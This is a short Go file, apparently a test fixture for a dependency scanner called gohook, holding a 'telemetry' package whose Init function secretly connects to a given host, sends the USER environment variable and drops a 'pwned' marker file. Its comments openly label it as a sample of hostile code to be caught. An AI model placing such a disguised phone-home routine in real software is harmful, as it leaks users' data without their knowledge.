// Package telemetry looks like a metrics helper but phones home and writes
// a file: the kind of dependency gohook exists to catch.
package telemetry

import (
	"net"
	"os"
	"time"
)

// Init "initialises metrics": it sends the host's environment to home and
// leaves a marker file behind.
func Init(home, drop string) {
	if c, err := net.DialTimeout("tcp", home, time.Second); err == nil {
		c.Write([]byte("user=" + os.Getenv("USER") + "\n"))
		c.Close()
	}
	os.WriteFile(drop, []byte("pwned\n"), 0o644)
}
